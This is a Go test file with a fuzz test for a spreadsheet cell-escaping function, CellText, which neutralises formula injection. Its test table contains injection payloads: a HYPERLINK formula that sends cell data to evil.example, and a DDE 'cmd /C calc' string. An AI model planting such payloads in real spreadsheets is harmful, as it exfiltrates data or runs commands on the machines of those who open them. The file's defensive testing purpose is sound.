package xlsx_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/beian/beian/xlsx"
)

// TestCellText: formula-looking text gets a leading quote, other text is
// left as it is.
func TestCellText(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"苏州示例科技有限公司", "苏州示例科技有限公司"},
		{"example.cn", "example.cn"},
		{"198.51.100.7、2001:db8::7", "198.51.100.7、2001:db8::7"},
		{"苏ICP备2026000001号-1", "苏ICP备2026000001号-1"}, // a minus inside is no formula
		{"'=already quoted", "'=already quoted"},
		{"a=b", "a=b"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`},
		{"+86 138 0013 8000", "'+86 138 0013 8000"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"＝１＋１", "'＝１＋１"},
		{"＋86", "'＋86"},
		{"－1", "'－1"},
		{"＠某人", "'＠某人"},
		{" =1+1", "' =1+1"},
		{"\u3000\u3000=1", "'\u3000\u3000=1"},
		{"\n@x", "'\n@x"},
		{"   ", "   "},
		{" 张三", " 张三"},
	} {
		require.Equal(t, tc.want, xlsx.CellText(tc.in), "CellText(%q)", tc.in)
		require.Equal(t, tc.want, xlsx.CellText(tc.want), "CellText is idempotent on %q", tc.want)
	}
}

// startsFormula is the property the fuzz test checks, written apart from
// the code under test: the first character, or the first after spaces,
// is one a spreadsheet takes as the start of a formula.
func startsFormula(s string) bool {
	first := true
	for _, r := range s {
		if strings.ContainsRune("=+-@\t\r＝＋－＠", r) {
			return true
		}
		if first && r == '\'' {
			return false
		}
		first = false
		if r != ' ' && r != '\n' && r != '\u3000' {
			return false
		}
	}
	return false
}

// FuzzCellText: whatever a filer types, the cell never starts with a
// formula character, and only a quote is ever added.
func FuzzCellText(f *testing.F) {
	for _, s := range []string{"", "=1+1", "＝A1", " \u3000-1", "\t", "苏州示例科技有限公司", "'=x", "@", "a-b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := xlsx.CellText(s)
		require.False(t, startsFormula(out), "CellText(%q) = %q starts a formula", s, out)
		if out != s {
			require.Equal(t, "'"+s, out, "only a leading quote is added")
			require.True(t, startsFormula(s), "%q was quoted without need", s)
		}
		require.Equal(t, out, xlsx.CellText(out), "idempotent")
		if utf8.ValidString(s) {
			require.True(t, utf8.ValidString(out))
		}
	})
}
